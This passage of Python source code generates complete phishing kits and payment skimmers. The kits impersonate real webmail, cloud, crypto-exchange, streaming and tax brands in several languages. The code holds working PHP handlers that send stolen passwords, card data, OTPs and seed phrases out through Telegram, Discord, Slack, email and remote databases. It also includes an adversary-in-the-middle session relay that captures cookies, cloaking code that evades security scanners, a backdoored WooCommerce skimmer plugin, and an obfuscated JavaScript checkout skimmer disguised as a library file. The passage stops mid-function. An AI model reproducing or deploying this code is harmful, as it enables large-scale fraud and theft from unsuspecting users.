    "dazn-it": dict(name="DAZN", lang="it", sector="streaming", color="#f8ff13"),
    "naver-kr": dict(name="NAVER", lang="ko", sector="webmail", color="#03c75a"),
    "libero-it": dict(name="Libero Mail", lang="it", sector="webmail", color="#003e92"),
    "wp-pl": dict(name="Poczta WP", lang="pl", sector="webmail", color="#e40613"),
    "ziggo-nl": dict(name="Ziggo Mail", lang="nl", sector="webmail", color="#f48c00"),
    "biglobe-jp": dict(name="BIGLOBEメール", lang="ja", sector="webmail", color="#004ea2"),
    "upbit-kr": dict(name="업비트", lang="ko", sector="crypto", color="#093687"),
    "bitflyer-jp": dict(name="bitFlyer", lang="ja", sector="crypto", color="#1e3c72"),
    "box-ar": dict(name="OneDrive", lang="ar", sector="cloud", color="#0078d4"),
    "dropbox-ja": dict(name="Dropbox", lang="ja", sector="cloud", color="#0061ff"),
    "m365-pl": dict(name="Microsoft 365", lang="pl", sector="webmail", color="#0067b8"),
}

TXT = {
    "it": dict(user="Email o nome utente", pw="Password", login="Accedi", card="Numero della carta", exp="Scadenza (MM/AA)",
               cvv="CVV", name="Nome e cognome", otp="Codice di verifica (SMS)", phone="Numero di cellulare", next="Continua",
               fee="Il tuo pacco è in attesa: paga 1,99 € per la riconsegna", refund="Hai diritto a un rimborso di 347,80 €",
               wait="Attendere, verifica in corso...", verify="Verifica di sicurezza", qr="Scansiona il codice QR con l'app",
               human="Verifica di essere un essere umano", fiscal="Codice fiscale", iban="IBAN"),
    "pl": dict(user="Adres e-mail", pw="Hasło", login="Zaloguj się", card="Numer karty", exp="Data ważności", cvv="CVC",
               name="Imię i nazwisko", otp="Kod SMS", phone="Numer telefonu", next="Dalej",
               fee="Twoja paczka czeka: dopłata 1,49 zł", refund="Przysługuje Ci zwrot 412,00 zł", wait="Proszę czekać...",
               verify="Weryfikacja bezpieczeństwa", qr="Zeskanuj kod QR w aplikacji", human="Potwierdź, że nie jesteś robotem",
               fiscal="PESEL", iban="Numer rachunku"),
    "nl": dict(user="E-mailadres", pw="Wachtwoord", login="Inloggen", card="Kaartnummer", exp="Vervaldatum", cvv="CVC",
               name="Volledige naam", otp="SMS-code", phone="Mobiel nummer", next="Volgende",
               fee="Uw pakket wacht: betaal € 1,95 verzendkosten", refund="U heeft recht op een teruggave van € 296,40",
               wait="Een ogenblik geduld...", verify="Beveiligingscontrole", qr="Scan de QR-code met de app",
               human="Bevestig dat u geen robot bent", fiscal="BSN", iban="IBAN"),
    "ja": dict(user="メールアドレス", pw="パスワード", login="ログイン", card="カード番号", exp="有効期限", cvv="セキュリティコード",
               name="カード名義", otp="認証コード", phone="携帯電話番号", next="次へ",
               fee="お荷物をお届けできませんでした。再配達料金 300円", refund="還付金 28,400円 を受け取れます",
               wait="確認中です。しばらくお待ちください", verify="本人確認", qr="アプリでQRコードを読み取ってください",
               human="ロボットではないことを確認してください", fiscal="マイナンバー", iban="口座番号"),
    "ko": dict(user="아이디 또는 이메일", pw="비밀번호", login="로그인", card="카드번호", exp="유효기간", cvv="CVC",
               name="이름", otp="인증번호", phone="휴대폰 번호", next="다음", fee="배송 보류: 주소 확인이 필요합니다",
               refund="환급금 184,000원이 있습니다", wait="확인 중입니다...", verify="본인 인증", qr="앱으로 QR 코드를 스캔하세요",
               human="로봇이 아닙니다", fiscal="주민등록번호", iban="계좌번호"),
    "ar": dict(user="البريد الإلكتروني", pw="كلمة المرور", login="تسجيل الدخول", card="رقم البطاقة", exp="تاريخ الانتهاء",
               cvv="رمز الأمان", name="الاسم الكامل", otp="رمز التحقق", phone="رقم الجوال", next="متابعة",
               fee="شحنتك معلقة: ادفع 5 درهم", refund="لديك استرداد بقيمة 320 درهم", wait="يرجى الانتظار...",
               verify="التحقق الأمني", qr="امسح رمز QR بالتطبيق", human="تأكد أنك لست روبوتاً", fiscal="رقم الهوية", iban="IBAN"),
    "th": dict(user="อีเมล", pw="รหัสผ่าน", login="เข้าสู่ระบบ", card="หมายเลขบัตร", exp="วันหมดอายุ", cvv="CVV",
               name="ชื่อบนบัตร", otp="รหัส OTP", phone="เบอร์โทรศัพท์", next="ถัดไป", fee="พัสดุของคุณรอชำระค่าธรรมเนียม 25 บาท",
               refund="คุณได้รับเงินคืน 1,250 บาท", wait="กรุณารอสักครู่...", verify="การยืนยันความปลอดภัย",
               qr="สแกนคิวอาร์โค้ดด้วยแอป", human="ยืนยันว่าคุณไม่ใช่โปรแกรมอัตโนมัติ", fiscal="เลขบัตรประชาชน", iban="เลขบัญชี"),
}


def brand(r, sectors=None):
    keys = sorted(k for k, v in BRANDS.items() if sectors is None or v["sector"] in sectors)
    k = r.choice(keys)
    return k, BRANDS[k], TXT[BRANDS[k]["lang"]]


def page(b, t, fields, action, extra="", rtl=None):
    d = ' dir="rtl"' if (rtl or b["lang"] == "ar") else ""
    inputs = "\n".join('      <label>%s<input name="%s" type="%s" required></label>' % (lab, n, typ) for n, lab, typ in fields)
    return T("""<!DOCTYPE html>
<html lang="{{lang}}"{{d}}>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex, nofollow">
<title>{{name}}</title>
<style>
body{margin:0;font-family:-apple-system,"Segoe UI","Noto Sans",sans-serif;background:#f4f5f7}
header{background:{{color}};padding:14px 20px;font-weight:700;font-size:20px}
main{max-width:420px;margin:40px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 8px rgba(0,0,0,.1)}
label{display:block;margin:12px 0;font-size:14px;color:#333}input{display:block;width:100%;box-sizing:border-box;padding:10px;margin-top:4px;border:1px solid #ccc;border-radius:4px}
button{width:100%;padding:12px;border:0;border-radius:4px;background:{{color}};font-weight:700;margin-top:12px}
</style>
</head>
<body>
<header>{{name}}</header>
<main>
  <h2>{{h}}</h2>
  {{extra}}
  <form method="post" action="{{action}}" autocomplete="off">
{{inputs}}
      <button type="submit">{{btn}}</button>
  </form>
</main>
</body>
</html>
""", lang=b["lang"], d=d, name=b["name"], color=b["color"], h=t["verify"], extra=extra, action=action, inputs=inputs, btn=t["next"])


def exfil(r, kind, fields_expr="$data"):
    """PHP statements sending $data (an array) somewhere; kind picks where."""
    if kind == "discord":
        return T("""$hook = 'https://discord.com/api/webhooks/{{id}}/{{tok}}';
$lines = array();
foreach ({{f}} as $k => $v) { $lines[] = '**' . $k . '**: `' . $v . '`'; }
$c = curl_init($hook);
curl_setopt_array($c, array(CURLOPT_POST => 1, CURLOPT_HTTPHEADER => array('Content-Type: application/json'),
    CURLOPT_POSTFIELDS => json_encode(array('username' => 'logs', 'content' => implode("\\n", $lines))), CURLOPT_RETURNTRANSFER => 1));
curl_exec($c);
curl_close($c);
""", id=r.randint(10 ** 17, 10 ** 18), tok=rword(r, 68, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"), f=fields_expr)
    if kind == "slack":
        return T("""$payload = array('text' => ":bell: new " . $_SERVER['REMOTE_ADDR'], 'attachments' => array(array('fields' => array())));
foreach ({{f}} as $k => $v) { $payload['attachments'][0]['fields'][] = array('title' => $k, 'value' => $v, 'short' => true); }
@file_get_contents('https://hooks.slack.com/services/T{{a}}/B{{b}}/{{c}}', false, stream_context_create(array('http' => array(
    'method' => 'POST', 'header' => "Content-Type: application/json\\r\\n", 'content' => json_encode($payload)))));
""", a=rword(r, 8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), b=rword(r, 10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                 c=rword(r, 24), f=fields_expr)
    if kind == "telegram_doc":
        return T("""$tmp = tempnam(sys_get_temp_dir(), 'r');
file_put_contents($tmp, print_r({{f}}, true));
$c = curl_init('https://api.telegram.org/bot{{tok}}/sendDocument');
curl_setopt_array($c, array(CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, CURLOPT_POSTFIELDS => array(
    'chat_id' => '{{chat}}', 'caption' => $_SERVER['REMOTE_ADDR'] . ' ' . date('c'),
    'document' => new CURLFile($tmp, 'text/plain', 'log_' . time() . '.txt'))));
curl_exec($c);
curl_close($c);
@unlink($tmp);
""", tok="%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rword(r, 35, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")),
                 chat="-100%d" % r.randint(10 ** 9, 10 ** 10), f=fields_expr)
    if kind == "remote_db":
        return T("""try {
    $pdo = new PDO('mysql:host={{h}};port=3306;dbname={{db}};charset=utf8mb4', '{{u}}', '{{p}}', array(PDO::ATTR_TIMEOUT => 5));
    $st = $pdo->prepare('INSERT INTO logs (ip, ua, kit, data, ts) VALUES (?, ?, ?, ?, NOW())');
    $st->execute(array($_SERVER['REMOTE_ADDR'], $_SERVER['HTTP_USER_AGENT'], '{{kit}}', json_encode({{f}})));
} catch (Exception $e) {
    file_put_contents(__DIR__ . '/.err', json_encode({{f}}) . "\\n", FILE_APPEND);
}
""", h=ip(r), db=word(r, 4, 6), u=word(r, 4, 6), p=rword(r, 12), kit=word(r, 3, 6), f=fields_expr)
    if kind == "mail_file":
        return T("""$msg = '';
foreach ({{f}} as $k => $v) { $msg .= str_pad($k, 12) . ': ' . $v . "\\n"; }
$msg .= 'IP: ' . $_SERVER['REMOTE_ADDR'] . "\\nUA: " . $_SERVER['HTTP_USER_AGENT'] . "\\n";
@mail('{{to}}', 'Rzlt ' . $_SERVER['REMOTE_ADDR'], $msg, 'From: <noreply@' . $_SERVER['HTTP_HOST'] . '>');
@file_put_contents(__DIR__ . '/{{log}}', $msg . "-----\\n", FILE_APPEND);
""", to="%s@%s" % (word(r, 5, 9), dom(r)), log=r.choice((".rz.txt", "error_log.txt", "data/.log", "cache.dat")), f=fields_expr)
    # telegram by curl, the classic
    return T("""$t = '';
foreach ({{f}} as $k => $v) { $t .= "<b>$k</b>: " . htmlspecialchars($v) . "\\n"; }
$c = curl_init('https://api.telegram.org/bot{{tok}}/sendMessage');
curl_setopt_array($c, array(CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1,
    CURLOPT_POSTFIELDS => array('chat_id' => '{{chat}}', 'text' => $t, 'parse_mode' => 'HTML')));
curl_exec($c);
curl_close($c);
""", tok="%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rword(r, 35, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")),
             chat=str(r.randint(10 ** 8, 10 ** 10)), f=fields_expr)


def handler(r, fields, kind, nxt):
    keys = ", ".join("'%s' => @$_POST['%s']" % (n, n) for n in fields)
    return T("""<?php
session_start();
$data = array({{keys}}, 'ip' => $_SERVER['REMOTE_ADDR'], 'time' => date('Y-m-d H:i:s'));
$_SESSION['v'] = array_merge(isset($_SESSION['v']) ? $_SESSION['v'] : array(), $data);
{{ex}}
header('Location: {{nxt}}');
exit;
""", keys=keys, ex=exfil(r, kind), nxt=nxt)


def kit_dir(r, key):
    return r.choice(("", "wp-content/uploads/%d/" % r.randint(2020, 2026), "wp-admin/css/", "~%s/" % word(r, 3, 6),
                     ".well-known/", "secure-%s/" % hexname(r, 6))) + r.choice((key.split("-")[0], "verify", "login", hexname(r, 8), "app"))


def p_aitm(r, S):
    k, b, t = brand(r, ("webmail", "cloud"))
    up = r.choice(("login.", "mail.", "auth.")) + dom(r)
    body = T("""<?php
/* session relay */
error_reporting(0);
$UP = 'https://{{up}}';
$LOG = __DIR__ . '/.sess/' . date('Ymd') . '.log';
@mkdir(dirname($LOG), 0700, true);
$path = isset($_SERVER['REQUEST_URI']) ? $_SERVER['REQUEST_URI'] : '/';
$hdrs = array();
foreach (getallheaders() as $n => $v) {
    $l = strtolower($n);
    if (in_array($l, array('host', 'accept-encoding', 'content-length', 'connection'))) {
        continue;
    }
    if ($l === 'cookie') {
        $v = preg_replace('/(^|;\\s*)__px_[^;]*/', '', $v);
    }
    $hdrs[] = $n . ': ' . str_replace($_SERVER['HTTP_HOST'], parse_url($UP, PHP_URL_HOST), $v);
}
$body = file_get_contents('php://input');
if ($_SERVER['REQUEST_METHOD'] === 'POST' && $body !== '') {
    parse_str($body, $f);
    foreach (array('login', 'loginfmt', 'passwd', 'password', 'username', 'otc', 'code') as $want) {
        if (isset($f[$want])) {
            file_put_contents($LOG, date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . " $want=" . $f[$want] . "\\n", FILE_APPEND);
        }
    }
}
$c = curl_init($UP . $path);
curl_setopt_array($c, array(CURLOPT_CUSTOMREQUEST => $_SERVER['REQUEST_METHOD'], CURLOPT_HTTPHEADER => $hdrs,
    CURLOPT_POSTFIELDS => $body !== '' ? $body : null, CURLOPT_RETURNTRANSFER => 1, CURLOPT_HEADER => 1,
    CURLOPT_FOLLOWLOCATION => 0, CURLOPT_ENCODING => ''));
$res = curl_exec($c);
$hs = curl_getinfo($c, CURLINFO_HEADER_SIZE);
http_response_code(curl_getinfo($c, CURLINFO_HTTP_CODE));
curl_close($c);
$me = $_SERVER['HTTP_HOST'];
foreach (explode("\\r\\n", substr($res, 0, $hs)) as $h) {
    if (stripos($h, 'set-cookie:') === 0) {
        file_put_contents($LOG, date('c') . ' COOKIE ' . trim(substr($h, 11)) . "\\n", FILE_APPEND);
        header(preg_replace('/domain=[^;]+;?/i', 'domain=' . $me . ';', $h), false);
    } elseif (preg_match('/^(location|content-type):/i', $h)) {
        header(str_replace(parse_url($UP, PHP_URL_HOST), $me, $h));
    }
}
$out = substr($res, $hs);
$out = str_replace(array('https://' . parse_url($UP, PHP_URL_HOST), parse_url($UP, PHP_URL_HOST)), array('https://' . $me, $me), $out);
{{tg}}
echo $out;
""", up=up, tg="if (strpos($path, 'kmsi') !== false || strpos($path, 'ProcessAuth') !== false) {\n    $data = array('log' => (string) @file_get_contents($LOG));\n" +
           exfil(r, r.choice(("telegram", "discord")), "$data") + "}")
    ht = "RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^(.*)$ index.php [QSA,L]\n"
    d = kit_dir(r, k)
    return [(d + "/index.php", body, "php"), (d + "/.htaccess", ht, "htaccess")], "kit:%s-aitm" % k


def p_qr(r, S):
    k, b, t = brand(r, ("crypto", "webmail", "tax"))
    # a QR of a fixed code: the picture is a real (tiny) PNG data URI
    img = "data:image/png;base64," + b64(b"\x89PNG\r\n\x1a\n" + bytes(r.randint(0, 255) for _ in range(64)))
    extra = ('<p>%s</p><img alt="QR" width="180" height="180" src="%s"><p id="cd">%s: <b>%06d</b></p>'
             % (t["qr"], img, t["verify"], r.randint(0, 999999)))
    pg = page(b, t, [("u", t["user"], "text"), ("p", t["pw"], "password"), ("otp", t["otp"], "text")], "auth.php", extra)
    pg = pg.replace("</body>", "<script>setInterval(function(){fetch('auth.php?poll=1').then(function(r){return r.text()})"
                               ".then(function(t){if(t==='go')location='done.html'})},3000);</script>\n</body>")
    h = handler(r, ("u", "p", "otp"), r.choice(("telegram", "slack", "remote_db")), "https://www.%s/" % dom(r))
    h = h.replace("session_start();", "session_start();\nif (isset($_GET['poll'])) {\n    echo is_file(__DIR__ . '/go_' . session_id()) ? 'go' : 'wait';\n    exit;\n}", 1)
    d = kit_dir(r, k)
    return [(d + "/index.html", pg, "html"), (d + "/auth.php", h, "php"),
            (d + "/done.html", "<!doctype html><meta charset=utf-8><p>%s</p>" % t["wait"], "html")], "kit:%s-qr" % k


def p_turnstile(r, S):
    k, b, t = brand(r, ("streaming", "telecom"))
    gate = T("""<?php
session_start();
$bad = array('bot', 'crawl', 'spider', 'curl', 'python', 'wget', 'headless', 'phantom', 'lighthouse', 'scan', 'urlscan');
$ua = strtolower(@$_SERVER['HTTP_USER_AGENT']);
foreach ($bad as $w) {
    if (strpos($ua, $w) !== false) {
        header('Location: https://www.{{real}}/');
        exit;
    }
}
if (isset($_POST['cf_token']) && isset($_SESSION['ch']) && $_POST['cf_token'] === $_SESSION['ch']) {
    $_SESSION['pass'] = 1;
    header('Location: signin.php');
    exit;
}
$_SESSION['ch'] = bin2hex(random_bytes(8));
?>
<!DOCTYPE html><html><head><meta charset="utf-8"><title>Just a moment...</title>
<style>body{font-family:system-ui;background:#fff;color:#313131;text-align:center;padding-top:12vh}.b{display:inline-flex;align-items:center;border:1px solid #e0e0e0;padding:14px 18px;gap:12px}
</style></head><body><h1><?php echo htmlspecialchars($_SERVER['HTTP_HOST']); ?></h1><p>{{human}}</p>
<form method="post" id="f"><input type="hidden" name="cf_token" value=""><div class="b"><input type="checkbox" id="c"><label for="c">{{human}}</label>
<span style="font-size:10px;color:#999">Cloudflare Turnstile</span></div></form>
<script>document.getElementById('c').addEventListener('change',function(){var f=document.getElementById('f');f.cf_token.value=<?php echo json_encode($_SESSION['ch']); ?>;setTimeout(function(){f.submit()},900)});</script>
<p style="color:#999;font-size:12px">Ray ID: <?php echo substr(md5(uniqid()), 0, 16); ?></p></body></html>
""", real=dom(r), human=t["human"])
    sign = "<?php\nsession_start();\nif (empty($_SESSION['pass'])) { header('Location: index.php'); exit; }\n?>\n" + \
        page(b, t, [("email", t["user"], "email"), ("password", t["pw"], "password")], "pay.php")
    pay = "<?php\nsession_start();\nif (empty($_SESSION['pass'])) { header('Location: index.php'); exit; }\n?>\n" + \
        page(b, t, [("cc", t["card"], "tel"), ("exp", t["exp"], "text"), ("cvv", t["cvv"], "tel"), ("holder", t["name"], "text")], "post.php",
             "<p>%s</p>" % t["fee"])
    pay = pay.replace('action="post.php"', 'action="<?php echo isset($_POST[\'email\']) ? \'post.php?s=1\' : \'post.php\'; ?>"')
    h = handler(r, ("email", "password", "cc", "exp", "cvv", "holder"), r.choice(("discord", "telegram_doc")), "https://www.%s/" % dom(r))
    d = kit_dir(r, k)
    return [(d + "/index.php", gate, "php"), (d + "/signin.php", sign, "php"), (d + "/pay.php", pay, "php"),
            (d + "/post.php", h, "php")], "kit:%s-turnstile" % k


def p_parcel(r, S):
    k, b, t = brand(r, ("logistics",))
    kind = r.choice(("discord", "slack", "telegram_doc"))
    track = "".join(r.choice("0123456789") for _ in range(12))
    idx = page(b, t, [("name", t["name"], "text"), ("phone", t["phone"], "tel"), ("addr", "📦", "text")], "s1.php",
               "<p>%s</p><p><b>#%s</b></p>" % (t["fee"], track))
    card = page(b, t, [("cc", t["card"], "tel"), ("exp", t["exp"], "text"), ("cvv", t["cvv"], "tel")], "s2.php")
    otp = page(b, t, [("otp", t["otp"], "tel")], "s3.php", "<p>%s</p>" % t["wait"])
    d = kit_dir(r, k)
    return [(d + "/index.html", idx, "html"), (d + "/card.html", card, "html"), (d + "/sms.html", otp, "html"),
            (d + "/s1.php", handler(r, ("name", "phone", "addr"), kind, "card.html"), "php"),
            (d + "/s2.php", handler(r, ("cc", "exp", "cvv"), kind, "sms.html"), "php"),
            (d + "/s3.php", handler(r, ("otp",), kind, "https://www.%s/" % dom(r)), "php")], "kit:%s-parcel" % k


def p_tax(r, S):
    k, b, t = brand(r, ("tax",))
    kind = r.choice(("slack", "remote_db", "mail_file"))
    idx = page(b, t, [("fiscal", t["fiscal"], "text"), ("name", t["name"], "text"), ("iban", t["iban"], "text"),
                      ("cc", t["card"], "tel"), ("exp", t["exp"], "text"), ("cvv", t["cvv"], "tel")], "rimborso.php",
               "<p><b>%s</b></p>" % t["refund"])
    cfg = "<?php\n$allowed_countries = array('%s');\n$geo_api = 'http://%s/json/';\n" % (
        {"it": "IT", "nl": "NL", "ko": "KR"}.get(b["lang"], "IT"), ip(r))
    geo = T("""<?php
require __DIR__ . '/config.php';
$ip = $_SERVER['REMOTE_ADDR'];
$g = @json_decode(@file_get_contents($geo_api . $ip . '?fields=countryCode,isp,hosting'), true);
if (!$g || !in_array($g['countryCode'], $allowed_countries) || !empty($g['hosting'])) {
    header('HTTP/1.1 404 Not Found');
    echo '<h1>Not Found</h1>';
    exit;
}
""")
    h = handler(r, ("fiscal", "name", "iban", "cc", "exp", "cvv"), kind, "https://www.%s/" % dom(r))
    h = h.replace("session_start();", "require __DIR__ . '/geo.php';\nsession_start();", 1)
    d = kit_dir(r, k)
    return [(d + "/index.html", idx, "html"), (d + "/rimborso.php", h, "php"), (d + "/geo.php", geo, "php"),
            (d + "/config.php", cfg, "php")], "kit:%s-refund" % k


def p_onefile(r, S):
    k, b, t = brand(r, ("cloud", "webmail"))
    ep = r.choice(("https://%s/api/collect" % ("cdn-" + word(r, 3, 6) + "." + dom(r)),
                   "https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), rword(r, 68)),
                   "https://formsubmit.example.com/ajax/%s" % hexname(r, 32)))
    pg = page(b, t, [("email", t["user"], "email"), ("password", t["pw"], "password")], "#")
    js = T("""<script>
(function () {
  var f = document.querySelector('form'), tries = 0;
  var h = location.hash.slice(1);
  if (h) { try { f.email.value = atob(h); } catch (e) { f.email.value = h; } f.email.readOnly = true; }
  f.addEventListener('submit', function (e) {
    e.preventDefault();
    tries++;
    var d = {email: f.email.value, password: f.password.value, n: tries, ua: navigator.userAgent, lang: navigator.language};
    fetch('https://ipapi.example.net/json/').then(function (r) { return r.json(); }).catch(function () { return {}; }).then(function (g) {
      d.ip = g.ip || ''; d.geo = (g.city || '') + ' ' + (g.country || '');
      return fetch('{{ep}}', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'application/json'},
        body: JSON.stringify({content: JSON.stringify(d)})});
    }).then(function () {
      if (tries < 2) { f.password.value = ''; alert('{{err}}'); }
      else { location.href = 'https://' + f.email.value.split('@')[1]; }
    });
  });
})();
</script>
</body>""", ep=ep, err=esc_js(t["pw"] + " ✗"))
    pg = pg.replace("</body>", js)
    d = r.choice(("", "wp-content/uploads/%d/%02d/" % (r.randint(2021, 2026), r.randint(1, 12)), "docs/", "share/"))
    return [(d + r.choice(("Document_%d.html" % r.randint(100, 9999), "index.html", "view.html", "secure.htm")), pg, "html")], "kit:%s-onefile" % k


def p_crypto(r, S):
    k, b, t = brand(r, ("crypto",))
    kind = r.choice(("telegram", "telegram_doc", "discord"))
    lg = page(b, t, [("email", t["user"], "email"), ("password", t["pw"], "password")], "p.php?s=2")
    fa = page(b, t, [("g2fa", "Google Authenticator", "tel")], "p.php?s=3")
    seed = page(b, t, [("phrase", "Recovery phrase (12/24)", "text")], "p.php?s=4", "<p>%s</p>" % t["verify"])
    h = T("""<?php
session_start();
$s = isset($_GET['s']) ? (int) $_GET['s'] : 1;
$data = array_merge(array('step' => $s, 'ip' => $_SERVER['REMOTE_ADDR']), array_map('strval', $_POST));
{{ex}}
$next = array(2 => '2fa.html', 3 => 'phrase.html', 4 => 'https://www.{{real}}/');
header('Location: ' . (isset($next[$s]) ? $next[$s] : 'index.html'));
""", ex=exfil(r, kind), real=dom(r))
    d = kit_dir(r, k)
    return [(d + "/index.html", lg, "html"), (d + "/2fa.html", fa, "html"), (d + "/phrase.html", seed, "html"), (d + "/p.php", h, "php")], "kit:%s-exchange" % k


def p_webmail(r, S):
    k, b, t = brand(r, ("webmail",))
    pg = page(b, t, [("login", t["user"], "email"), ("passwd", t["pw"], "password")], "")
    body = T("""<?php
$err = false;
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $data = array('login' => $_POST['login'], 'passwd' => $_POST['passwd'], 'host' => $_SERVER['HTTP_HOST']);
    $mx = array();
    @getmxrr(substr(strrchr($_POST['login'], '@'), 1), $mx);
    $data['mx'] = implode(',', $mx);
{{ex}}
    $c = (int) @$_COOKIE['n'] + 1;
    setcookie('n', $c, time() + 600);
    if ($c >= 2) {
        header('Location: https://{{real}}/');
        exit;
    }
    $err = true;
}
?>
""", ex="    " + exfil(r, "mail_file").replace("\n", "\n    "), real=dom(r))
    pg = pg.replace("<form", "<?php if ($err) echo '<p style=\"color:#c00\">%s ✗</p>'; ?>\n  <form" % t["pw"])
    d = kit_dir(r, k)
    return [(d + "/index.php", body + pg, "php")], "kit:%s-webmail" % k


def p_antibot(r, S):
    k, b, t = brand(r, None)
    nets = ", ".join("'%s.0/24'" % ip(r).rsplit(".", 1)[0] for _ in range(r.randint(4, 9)))
    ab = T("""<?php
$__ranges = array({{nets}}, '203.0.113.0/25', '198.51.100.128/25');
$__words = array('google', 'msn', 'amazonaws', 'digitalocean', 'ovh', 'hetzner', 'phishtank', 'netcraft', 'paloalto', 'forcepoint', 'zscaler');
function __in($ip, $cidr) {
    list($n, $m) = explode('/', $cidr);
    return (ip2long($ip) & ~((1 << (32 - $m)) - 1)) === ip2long($n);
}
$__ip = $_SERVER['REMOTE_ADDR'];
foreach ($__ranges as $__c) {
    if (__in($__ip, $__c)) { header('HTTP/1.1 403 Forbidden'); die('403'); }
}
$__host = strtolower(@gethostbyaddr($__ip));
foreach ($__words as $__w) {
    if (strpos($__host, $__w) !== false) { header('Location: https://www.{{real}}/'); exit; }
}
if (empty($_SERVER['HTTP_ACCEPT_LANGUAGE']) || stripos($_SERVER['HTTP_ACCEPT_LANGUAGE'], '{{lang}}') === false) {
    header('Location: https://www.{{real}}/');
    exit;
}
@file_put_contents(__DIR__ . '/visitors.txt', date('c') . " $__ip $__host " . $_SERVER['HTTP_USER_AGENT'] . "\\n", FILE_APPEND);
""", nets=nets, real=dom(r), lang=b["lang"])
    idx = "<?php require __DIR__ . '/guard.php'; ?>\n" + page(b, t, [("user", t["user"], "text"), ("pass", t["pw"], "password")], "go.php")
    h = handler(r, ("user", "pass"), r.choice(("remote_db", "slack", "telegram")), "https://www.%s/" % dom(r))
    h = h.replace("<?php\n", "<?php\nrequire __DIR__ . '/guard.php';\n", 1)
    d = kit_dir(r, k)
    return [(d + "/guard.php", ab, "php"), (d + "/index.php", idx, "php"), (d + "/go.php", h, "php")], "kit:%s-antibot" % k


def p_skim_server(r, S):
    store = "wp-content/uploads/%d/%02d/%s" % (r.randint(2020, 2025), r.randint(1, 12), r.choice(("thumb-cache.jpg", "fonts.woff2.bak", "sess.gif")))
    key = word(r, 8, 14)
    body = T("""add_action('woocommerce_checkout_process', function () {
    $f = array('number', 'card_number', 'ccnum', 'wc-authnet-card-number', 'stripe_card', 'expiry', 'cvc', 'card_cvc');
    $got = array();
    foreach ($_POST as $k => $v) {
        foreach ($f as $want) {
            if (stripos($k, $want) !== false && is_string($v) && $v !== '') {
                $got[$k] = $v;
            }
        }
    }
    if (!$got) {
        return;
    }
    foreach (array('billing_first_name', 'billing_last_name', 'billing_address_1', 'billing_city', 'billing_postcode', 'billing_country', 'billing_email', 'billing_phone') as $b) {
        $got[$b] = isset($_POST[$b]) ? $_POST[$b] : '';
    }
    $line = base64_encode(openssl_encrypt(json_encode($got), 'aes-128-cbc', '{{key}}', OPENSSL_RAW_DATA, substr(md5('{{key}}'), 0, 16)));
    @file_put_contents(ABSPATH . '{{store}}', $line . "\\n", FILE_APPEND | LOCK_EX);
}, 1);

add_action('init', function () {
    if (isset($_GET['{{dl}}']) && $_GET['{{dl}}'] === '{{key}}') {
        header('Content-Type: text/plain');
        readfile(ABSPATH . '{{store}}');
        @unlink(ABSPATH . '{{store}}');
        exit;
    }
});
""", key=key, store=store, dl=word(r, 2, 4))
    slug_ = r.choice(("woo-fees-manager", "checkout-field-editor-x", "payment-icons-pack", "wc-address-autocomplete"))
    t = "<?php\n" + plugin_header(r, slug_) + body
    return [("wp-content/plugins/%s/%s.php" % (slug_, slug_), t, "php")], "kit:woo-skimmer-server"


def p_skim_ws(r, S):
    host = r.choice(("wss://cdn-%s.%s/ws" % (word(r, 3, 6), dom(r)), "wss://%s:8443/s" % ip(r)))
    fn = r.choice(("jquery.validate.ext.min.js", "lazysizes.plugin.js", "slick.helper.js", "gtm-loader.js"))
    js = T("""/*! {{fn}} v1.{{v}}.2 | MIT */
!function(w, d) {
  'use strict';
  var sent = {}, K = '{{k}}';
  function enc(s) { var o = ''; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ K.charCodeAt(i % K.length)); return btoa(o); }
  function grab() {
    var out = {};
    d.querySelectorAll('input, select').forEach(function (el) {
      var n = (el.name || el.id || '').toLowerCase();
      if (el.value && /(card|cc|cvv|cvc|exp|billing|email|phone|name|zip|post)/.test(n)) out[n] = el.value;
    });
    return out;
  }
  function ship(data) {
    var k = JSON.stringify(data);
    if (sent[k] || !/(card|cc).*?":"\\d{12,19}/.test(k)) return;
    sent[k] = 1;
    try {
      var s = new WebSocket('{{host}}');
      s.onopen = function () { s.send(enc(k + '|' + location.host)); s.close(); };
    } catch (e) {
      (new Image()).src = 'https://{{img}}/p.gif?d=' + encodeURIComponent(enc(k));
    }
  }
  d.addEventListener('click', function (e) {
    var t = e.target.closest('button, [type=submit], #place_order, .action.checkout');
    if (t) setTimeout(function () { ship(grab()); }, 50);
  }, true);
  if (/checkout|onestep|payment/.test(location.pathname)) setInterval(function () { ship(grab()); }, 4000);
}(window, document);
""", fn=fn, v=r.randint(0, 9), k=word(r, 5, 9), host=host, img="st." + dom(r))
    where = r.choice(("wp-content/themes/%s/assets/js/" % theme(r), "skin/frontend/default/js/", "catalog/view/javascript/jquery/",
                      "pub/static/frontend/Magento/luma/en_US/js/"))
    tpl = T("""<?php
/**
 * Checkout footer
 */
?>
<footer class="site-footer">
  <p>&copy; <?php echo date('Y'); ?> <?php bloginfo('name'); ?></p>
</footer>
<script src="<?php echo esc_url(home_url('/{{where}}{{fn}}')); ?>" defer></script>
<?php wp_footer(); ?>
</body>
</html>
""", where=where, fn=fn)
    return [(where + fn, js, "js"), ("wp-content/themes/%s/footer-checkout.php" % theme(r), tpl, "php")], "kit:checkout-skimmer-ws"


def p_blurdoc(r, S):
    k, b, t = brand(r, ("cloud", "webmail"))
    pg = T("""<!DOCTYPE html>
<html lang="{{lang}}"{{d}}><head><meta charset="utf-8"><title>{{name}}</title>
